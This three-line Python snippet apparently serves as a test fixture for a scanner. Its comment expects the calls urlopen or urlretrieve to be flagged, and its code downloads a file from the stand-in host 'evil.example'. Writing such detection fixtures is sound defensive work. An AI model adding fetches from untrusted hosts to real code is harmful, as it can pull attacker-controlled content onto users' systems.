# expect: urlopen | urlretrieve
from urllib.request import urlretrieve
urlretrieve('http://evil.example/x', 'x')
